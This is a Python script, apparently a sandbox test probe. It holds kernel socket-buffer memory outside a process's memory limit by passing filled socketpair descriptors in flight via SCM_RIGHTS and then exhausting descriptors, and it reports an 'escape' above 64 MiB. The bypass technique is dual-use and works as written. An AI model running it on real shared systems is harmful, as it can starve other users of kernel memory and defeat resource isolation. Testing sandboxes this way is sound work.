"""Holds more kernel buffers than its descriptors allow (issue 11, class
10, beyond the attack found): filled socketpairs are sent over a carrier
socketpair as SCM_RIGHTS messages and closed, so that they stay alive in
flight in the carrier's queue while their descriptor numbers are reused;
when the kernel refuses more in flight, it fills socketpairs it keeps open
until it has no descriptor left. It stops at 128 MiB; more than 64 MiB
held is an escape."""
import array
import socket

CAP = 128 << 20
held = 0
chunk = b"I" * (1 << 16)
carriers, kept = [], []
inflight = 0


def fill(s):
    global held
    s.setblocking(False)
    try:
        while held < CAP:
            held += s.send(chunk)
    except (BlockingIOError, OSError):
        pass


def carrier():
    a, b = socket.socketpair()
    carriers.append((a, b))
    return a


why = []
try:
    c = carrier()
    while held < CAP:
        x, y = socket.socketpair()
        fill(x)
        fill(y)
        try:
            c.sendmsg([b"m"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [x.fileno(), y.fileno()]))])
            inflight += 2
            x.close()
            y.close()
        except BlockingIOError:
            kept.append((x, y))
            c = carrier()
        except OSError as e:
            why.append("in flight: %s" % e)
            kept.append((x, y))
            break
    while held < CAP:
        x, y = socket.socketpair()
        kept.append((x, y))
        fill(x)
        fill(y)
except OSError as e:
    why.append("open: %s" % e)
print("stopped:", "; ".join(why) or "at the cap", flush=True)
mib = held >> 20
print("KERNEL_MIB %d with %d descriptors in flight, %d socketpairs open, %d carriers"
      % (mib, inflight, len(kept), len(carriers)), flush=True)
if mib > 64:
    print("ESCAPED held %d MiB of socket buffers, outside the memory limit" % mib, flush=True)
